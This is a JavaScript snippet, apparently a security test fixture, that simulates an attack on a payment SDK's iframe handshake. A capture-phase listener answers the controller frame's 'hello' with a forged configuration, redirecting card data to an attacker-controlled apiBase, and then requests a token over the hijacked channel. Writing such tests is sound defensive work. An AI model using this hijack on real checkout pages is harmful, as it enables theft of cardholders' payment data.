// Attack: a capture-phase listener registered before the SDK answers the controller frame's
// `hello` first, with a configuration whose apiBase is the attacker's own server, so the card
// would be posted there. Then it asks for a token on that port.
(function () {
  window.addEventListener('message', function (e) {
    var d = e.data;
    if (!d || d.payjp !== 'hello' || !e.source) return;
    var iframe = document.querySelector('iframe.payjp-controller');
    if (!iframe || iframe.contentWindow !== e.source) return;
    var group = null;
    var channel = window.__listeningPort('hijacked controller', function (data, port) {
      if (data.t === 'refused' || data.t === 'ready') {
        var field = document.querySelector('iframe.payjp-frame');
        group = field && window.__frameParams(field).get('group');
        setTimeout(function () { port.postMessage({ t: 'token', id: 1, group: group, options: {} }); }, 6000);
      }
    });
    e.source.postMessage({ payjp: 'connect', nonce: d.nonce, config: { publicKey: 'pk_test_0123456789abcdef01234567', apiBase: location.origin + '/v1' } }, e.origin, [channel.port2]);
  }, true);
})();
